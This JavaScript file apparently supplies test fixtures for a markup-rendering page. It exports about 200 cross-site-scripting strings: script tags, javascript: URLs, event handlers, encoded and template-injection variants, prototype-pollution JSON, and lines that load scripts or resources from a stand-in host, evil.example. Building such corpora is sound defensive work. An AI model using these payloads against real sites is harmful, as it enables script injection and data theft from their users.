// Two hundred texts that run in a page which takes text for markup (T-12). Each would call `alert` or load `//evil.example`.
// The console's stories and the widget's share them.

const RUN = 'alert(1)';

/** Whole pieces of markup. */
const PIECES = [
  `<script>${RUN}</script>`,
  `<script src=//evil.example/x.js></script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script\n>${RUN}</script\n>`,
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `--><script>${RUN}</script><!--`,
  `]]><script>${RUN}</script>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href=//evil.example/x.js />`,
  `<math><mtext><script>${RUN}</script></mtext></math>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<a href="javascript:${RUN}">x</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">x</a>`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<button formaction="javascript:${RUN}">x</button>`,
  `<base href="//evil.example/">`,
  `<meta http-equiv=refresh content="0;url=//evil.example/">`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<style>@import "//evil.example/x.css";</style>`,
  `<style>*{background:url(//evil.example/x.png)}</style>`,
  `<div style="background:url(//evil.example/x.png)">x</div>`,
  `<img src=//evil.example/x.png>`,
  `<img srcset="//evil.example/x.png 1x">`,
  `<picture><source srcset=//evil.example/x.png><img></picture>`,
  `<video poster=//evil.example/x.png></video>`,
  `<input type=image src=//evil.example/x.png>`,
  `<body background=//evil.example/x.png>`,
  `<table background=//evil.example/x.png>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><script>${RUN}</script></template>`,
  `<svg><use href="//evil.example/x.svg#x"/></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<math href="javascript:${RUN}">x</math>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<isindex type=image src=1 onerror=${RUN}>`,
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `vbscript:${RUN}`,
  `https://evil.example/"onmouseover="${RUN}`,
  `https://evil.example/'><img src=x onerror=${RUN}>`,
  `mailto:a@example.com?body=<script>${RUN}</script>`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `<%= ${RUN} %>`,
  `#{${RUN}}`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `＜script＞${RUN}＜/script＞`,
  `\u202e<script>${RUN}</script>`,
  `[x](javascript:${RUN})`,
  `![x](//evil.example/x.png)`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<?xml version="1.0"?><x xmlns="http://www.w3.org/1999/xhtml"><script>${RUN}</script></x>`,
  `<xmp><script>${RUN}</script></xmp>`,
  `__proto__`,
  `constructor`,
  `{"__proto__":{"innerHTML":"<img src=x onerror=${RUN}>"}}`,
  `{"type":"img","props":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${RUN}>"}}}`,
];

/** Handlers on whatever carries them. */
const TAGS = [
  'img src=x',
  'svg',
  'video src=x',
  'audio src=x',
  'input autofocus',
  'body',
  'iframe',
  'div tabindex=1',
];
const EVENTS = [
  'onerror',
  'onload',
  'onfocus',
  'onmouseover',
  'onclick',
  'onanimationstart',
  'onpointerenter',
];
const ENDS = ['>', '//', ' x=">'];

const handlers = TAGS.flatMap((tag) =>
  EVENTS.flatMap((event) => ENDS.map((end) => `<${tag} ${event}=${RUN}${end}`)),
);

/** @type {readonly string[]} */
export const CORPUS = [...PIECES, ...handlers].slice(0, 200);
